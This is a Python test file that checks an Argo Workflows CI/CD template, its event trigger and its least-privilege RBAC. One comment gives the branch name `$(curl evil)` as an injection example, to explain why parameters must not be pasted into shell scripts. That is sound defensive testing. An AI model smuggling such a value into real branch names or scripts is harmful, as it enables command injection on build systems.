"""The cicd WorkflowTemplate, its trigger and its RBAC do what the design says.

Strictness first (hera's Argo Workflows v4 models with unknown fields as
errors), then behaviour: the steps and their order, the per-domain mutex fed by
the plan, parameters that reach scripts only through the environment, and
least-privilege roles.
"""

from __future__ import annotations

import copy

from tests.static.cluster.support import ROOT, build, of_kind, strict_errors

ARGO = build(ROOT / "argo")
(TEMPLATE,) = of_kind(ARGO, "WorkflowTemplate")
(SENSOR,) = of_kind(ARGO, "Sensor")
TEMPLATES = {t["name"]: t for t in TEMPLATE["spec"]["templates"]}


def workflow_model():
    from hera.workflows.models import Workflow

    return Workflow


def template_model():
    from hera.workflows.models import WorkflowTemplate

    return WorkflowTemplate


def step_names(template: dict) -> list[str]:
    return [step["name"] for group in template["steps"] for step in group]


def test_template_validates_strictly_against_argo_v4():
    assert strict_errors(template_model(), TEMPLATE) == []


def test_template_takes_repo_revision_and_ref():
    names = [p["name"] for p in TEMPLATE["spec"]["arguments"]["parameters"]]
    assert names == ["repo", "revision", "ref"]


def test_steps_run_in_the_delivery_order():
    main = TEMPLATES[TEMPLATE["spec"]["entrypoint"]]
    assert step_names(main) == [
        "clone", "plan", "unit-tests", "image-exists", "build-image", "deliver",
    ]  # fmt: skip
    assert step_names(TEMPLATES["deliver"]) == ["package", "register", "launch"]
    commands = [
        s["arguments"]["parameters"][0]["value"] for g in TEMPLATES["deliver"]["steps"] for s in g
    ]
    assert commands == ["package", "register", "launch"]
    assert 'python -m ci "$COMMAND"' in TEMPLATES["ci"]["container"]["args"][0]


def test_plan_comes_from_ci_and_feeds_the_domain_mutex():
    assert "python -m ci plan" in TEMPLATES["plan"]["container"]["args"][0]
    mutexes = TEMPLATES["deliver"]["synchronization"]["mutexes"]
    assert [m["name"] for m in mutexes] == ["cicd-{{inputs.parameters.domain}}"]
    main = TEMPLATES[TEMPLATE["spec"]["entrypoint"]]
    (deliver,) = [s for g in main["steps"] for s in g if s["name"] == "deliver"]
    domain = {p["name"]: p["value"] for p in deliver["arguments"]["parameters"]}["domain"]
    assert domain == "{{steps.plan.outputs.parameters.domain}}"
    assert "domain" not in {p["name"] for p in TEMPLATE["spec"]["arguments"]["parameters"]}


def test_build_uses_a_pinned_in_cluster_builder_and_the_planned_image():
    build_step = TEMPLATES["build-image"]["container"]
    assert build_step["image"].startswith("ghcr.io/osscontainertools/kaniko:v")
    assert "--destination={{inputs.parameters.image}}" in build_step["args"]


def test_parameters_reach_scripts_only_through_the_environment():
    # A branch may be named `$(curl evil)`: never paste it into script text.
    for template in TEMPLATE["spec"]["templates"]:
        body = template.get("container") or template.get("script") or {}
        script = " ".join(body.get("args", [])) + body.get("source", "")
        if body.get("command", [None])[0] in ("bash", "sh"):
            assert "{{" not in script, f"template {template['name']} interpolates into a script"


def test_every_workflow_step_runs_as_the_cicd_account():
    assert TEMPLATE["spec"]["serviceAccountName"] == "cicd"
    accounts = {a["metadata"]["name"] for a in of_kind(ARGO, "ServiceAccount")}
    assert {"cicd", "cicd-trigger", "gitea-webhook"} <= accounts


def test_roles_are_namespaced_and_least_privilege():
    assert not of_kind(ARGO, "ClusterRole") and not of_kind(ARGO, "ClusterRoleBinding")
    rules = {r["metadata"]["name"]: r["rules"] for r in of_kind(ARGO, "Role")}
    assert rules["cicd-executor"] == [
        {
            "apiGroups": ["argoproj.io"],
            "resources": ["workflowtaskresults"],
            "verbs": ["create", "patch"],
        }
    ]
    for rule in (r for role in rules.values() for r in role):
        assert "*" not in rule["verbs"] + rule["resources"] + rule["apiGroups"]
        assert "delete" not in rule["verbs"]


def test_sensor_submits_a_strictly_valid_cicd_workflow():
    trigger = SENSOR["spec"]["triggers"][0]["template"]["argoWorkflow"]
    workflow = trigger["source"]["resource"]
    assert trigger["operation"] == "submit"
    assert strict_errors(workflow_model(), workflow) == []
    assert workflow["spec"]["workflowTemplateRef"] == {"name": "cicd"}
    names = [p["name"] for p in workflow["spec"]["arguments"]["parameters"]]
    assert names == [p["name"] for p in TEMPLATE["spec"]["arguments"]["parameters"]]


def test_sensor_and_event_source_use_their_own_accounts():
    (source,) = of_kind(ARGO, "EventSource")
    assert source["spec"]["template"]["serviceAccountName"] == "gitea-webhook"
    assert SENSOR["spec"]["template"]["serviceAccountName"] == "cicd-trigger"
    assert source["spec"]["webhook"]["push"]["authSecret"]["name"] == "gitea-webhook"


# --- the strict check catches what hera alone lets through -------------------------


def test_rejects_unknown_key_in_the_template():
    broken = copy.deepcopy(TEMPLATE)
    broken["spec"]["templates"][0]["retries"] = 3
    assert strict_errors(template_model(), broken)


def test_rejects_the_pre_v4_singular_mutex():
    broken = copy.deepcopy(TEMPLATE)
    deliver = next(t for t in broken["spec"]["templates"] if t["name"] == "deliver")
    deliver["synchronization"] = {"mutex": {"name": "cicd-{{inputs.parameters.domain}}"}}
    errors = strict_errors(template_model(), broken)
    assert any("mutex" in e for e in errors)


def test_rejects_wrong_types_that_hera_would_coerce():
    broken = copy.deepcopy(TEMPLATE)
    broken["spec"]["activeDeadlineSeconds"] = "7200"
    assert strict_errors(template_model(), broken)
